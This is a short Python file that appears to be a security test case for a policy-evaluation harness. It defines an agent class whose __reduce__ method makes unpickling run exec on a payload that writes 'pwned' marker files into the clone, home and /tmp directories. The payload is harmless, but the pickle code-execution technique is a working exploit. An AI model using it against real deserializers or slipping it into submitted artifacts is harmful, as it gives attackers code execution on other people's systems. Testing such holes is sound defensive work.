"""row 26 | N | an agent whose unpickling runs code"""

import numpy as np

from evaluate import evaluate_policy


class Agent:
    def __init__(self, payload=""):
        exec(payload, {})

    def get_action(self, obs):
        return np.zeros((len(obs), 1), np.float32)

    def __reduce__(self):
        return (
            Agent,
            (
                "import os\nfor d in ('@CLONE@', '@HOME@', '/tmp'):\n    try:\n"
                "        open(d + '/pwned', 'w')\n    except OSError:\n        pass",
            ),
        )


evaluate_policy(Agent())
